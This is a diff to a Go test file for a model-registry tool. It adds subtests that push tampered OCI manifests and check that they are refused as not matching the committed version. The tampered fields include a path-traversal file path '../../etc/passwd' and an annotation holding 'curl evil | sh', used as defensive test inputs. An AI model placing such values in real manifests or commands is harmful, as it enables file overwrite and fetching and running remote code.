@@ -3,6 +3,7 @@ package store
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
 	"net"
 	"net/http"
@@ -13,6 +14,8 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
 
 	"github.com/modelgit/modelgit/manifests"
 )
@@ -64,9 +67,87 @@ func TestOCICheckVersion(t *testing.T) {
 		t.Fatalf("CheckVersion of another YAML: %v, want ErrTagMismatch saying not this version", err)
 	}
 
-	// oras pushes something else over the tag.
+	// A manifest of this very version (same annotations, same set of
+	// layer digests and sizes) that is not byte for byte the computed one
+	// is refused too: swapped titles would make `oras pull` of the pinned
+	// digest write the schema under the weights file's name.
 	tag, _ := TagFor(mv.Model, mv.Version)
 	dir := t.TempDir()
+	orig, err := o.fetchManifest(ctx, tag)
+	if err != nil {
+		t.Fatal(err)
+	}
+	origJSON := orig.raw
+	pushManifest := func(t *testing.T, b []byte) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(dir, "manifest.json"), b, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		runOras(t, dir, "manifest", "push", "--plain-http", o.Reference(tag), "manifest.json")
+	}
+	const weightsFile, schemaFile = "weights/model-00001.safetensors", "schema.json"
+	layer := func(m *ocispec.Manifest, title string) *ocispec.Descriptor {
+		for i, l := range m.Layers {
+			if l.Annotations[ocispec.AnnotationTitle] == title {
+				return &m.Layers[i]
+			}
+		}
+		t.Fatalf("no layer titled %q in %s", title, origJSON)
+		return nil
+	}
+	for _, tc := range []struct {
+		name string
+		edit func(m *ocispec.Manifest)
+		want string
+	}{
+		{"swapped titles and file paths", func(m *ocispec.Manifest) {
+			w, s := layer(m, weightsFile), layer(m, schemaFile)
+			for _, k := range []string{ocispec.AnnotationTitle, AnnotationFilepath} {
+				w.Annotations[k], s.Annotations[k] = s.Annotations[k], w.Annotations[k]
+			}
+		}, `(weights file "weights/model-00001.safetensors"): annotation org.cncf.model.filepath "schema.json", want "weights/model-00001.safetensors"`},
+		{"file path only", func(m *ocispec.Manifest) {
+			layer(m, schemaFile).Annotations[AnnotationFilepath] = "../../etc/passwd"
+		}, `(schema "schema.json"): annotation org.cncf.model.filepath "../../etc/passwd", want "schema.json"`},
+		{"layer media type", func(m *ocispec.Manifest) {
+			layer(m, schemaFile).MediaType = MediaTypeModelWeight
+		}, `(schema "schema.json"): media type "` + MediaTypeModelWeight + `", want "application/vnd.modelgit.feature-schema.v1+json"`},
+		{"layers reordered", func(m *ocispec.Manifest) {
+			m.Layers[0], m.Layers[1] = m.Layers[1], m.Layers[0]
+		}, `layer 1 (weights file "weights/config.json"): digest`},
+		{"extra layer annotation", func(m *ocispec.Manifest) {
+			layer(m, schemaFile).Annotations["io.example.run"] = "curl evil | sh"
+		}, `(schema "schema.json"): annotation io.example.run "curl evil | sh", want none`},
+		{"config media type", func(m *ocispec.Manifest) {
+			m.Config.MediaType = "application/vnd.oci.image.config.v1+json"
+		}, `config: media type "application/vnd.oci.image.config.v1+json", want "` + MediaTypeModelConfig + `"`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var m ocispec.Manifest
+			if err := json.Unmarshal(origJSON, &m); err != nil {
+				t.Fatal(err)
+			}
+			tc.edit(&m)
+			b, err := json.Marshal(m)
+			if err != nil {
+				t.Fatal(err)
+			}
+			pushManifest(t, b)
+			t.Cleanup(func() { pushManifest(t, origJSON) })
+			_, err = o.CheckVersion(ctx, mv, raw)
+			if !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), "a manifest of fraud@1.0.0 that is not the one computed from the committed version ("+string(pushed.Digest)+")") || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("CheckVersion of the edited manifest: %v\nwant ErrTagMismatch naming the computed manifest and saying %s", err, tc.want)
+			}
+			if _, err := o.PushVersion(ctx, mv, raw); !errors.Is(err, ErrTagMismatch) || !strings.Contains(err.Error(), "versions are immutable") {
+				t.Fatalf("PushVersion over the edited manifest: %v, want ErrTagMismatch, not overwriting it", err)
+			}
+		})
+	}
+	if got, err := o.CheckVersion(ctx, mv, raw); err != nil || got.Digest != pushed.Digest {
+		t.Fatalf("CheckVersion after restoring the manifest = %s, %v; want %s", got.Digest, err, pushed.Digest)
+	}
+
+	// oras pushes something else over the tag.
 	if err := os.WriteFile(filepath.Join(dir, "evil.bin"), []byte("not the model"), 0o644); err != nil {
 		t.Fatal(err)
 	}
